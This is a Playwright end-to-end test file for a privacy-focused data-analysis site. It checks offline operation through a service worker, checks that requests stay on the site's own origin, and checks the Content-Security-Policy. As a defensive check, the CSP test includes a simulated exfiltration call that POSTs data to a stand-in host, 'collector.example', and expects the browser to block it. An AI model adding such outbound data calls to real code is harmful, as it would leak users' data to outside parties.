/**
 * Private by construction (issue 7): after the first visit the site works with the network gone
 * (service worker), says so, and analyses a dropped file offline; the request log holds nothing
 * but the site's own files.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, openWatchedPage } from './browser';
import { partnerValue, waitForResults } from './page-helpers';

let browser: Browser;
beforeAll(async () => {
	browser = await launchBrowser();
});
afterAll(async () => {
	await browser?.close();
});

describe('offline after the first visit', () => {
	it('reloads and analyses a file with the browser offline', async () => {
		const watched = await openWatchedPage(browser, { serviceWorkers: 'allow' });
		const { page, context, baseUrl } = watched;
		await page.goto(baseUrl + '/');
		await waitForResults(page, 'USA');
		await page.locator('[data-testid="offline-ready"]').waitFor();
		await expect
			.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null))
			.toBe(true);

		await context.setOffline(true);
		await page.reload();
		await waitForResults(page, 'USA'); // the demo sample, from the cache
		await page.locator('[data-testid="offline-now"]').waitFor();

		await page
			.locator('[data-testid="file-input"]')
			.setInputFiles('test/fixtures/e2e/baci-small.csv');
		await page.locator('[data-testid="demo-badge"]').waitFor({ state: 'detached' });
		await waitForResults(page, 'DEU');
		// The hand-computed figure of baci-small.test.ts: USA's GHM IIT, annual average.
		expect(await partnerValue(page, 'USA', 'ghm-iit')).toBe(150_000);

		const origin = new URL(baseUrl).origin;
		expect(
			watched.requests().every((url) => url.startsWith(origin) || /^(data|blob):/.test(url))
		).toBe(true);
		expect(watched.foreignRequests()).toEqual([]);
		expect(watched.pageErrors).toEqual([]);
		await context.close();
	});

	it('runs under a Content-Security-Policy that lets the page talk to its own origin only', async () => {
		const watched = await openWatchedPage(browser);
		const { page, baseUrl } = watched;
		await page.addInitScript(() => {
			const seen: string[] = [];
			(window as unknown as { cspViolations: string[] }).cspViolations = seen;
			document.addEventListener('securitypolicyviolation', (event) =>
				seen.push(`${event.violatedDirective} ${event.blockedURI}`)
			);
		});
		await page.goto(baseUrl + '/');
		await waitForResults(page, 'USA');
		const policy = await page
			.locator('meta[http-equiv="content-security-policy"]')
			.getAttribute('content');
		expect(policy).toContain("connect-src 'self'");
		expect(policy).toContain("script-src 'self'");
		expect(policy).not.toContain('unsafe-eval');
		// The app itself never trips the policy…
		const violations = () =>
			page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
		expect(await violations()).toEqual([]);
		// …and a script that tried to send data elsewhere would be stopped by the browser.
		const attempt = await page.evaluate(() =>
			fetch('https://collector.example/upload', { method: 'POST', body: 'data' }).then(
				() => 'sent',
				() => 'blocked'
			)
		);
		expect(attempt).toBe('blocked');
		expect((await violations()).some((entry) => entry.startsWith('connect-src'))).toBe(true);
		expect(watched.foreignRequests()).toEqual([]);
		await watched.context.close();
	});
});
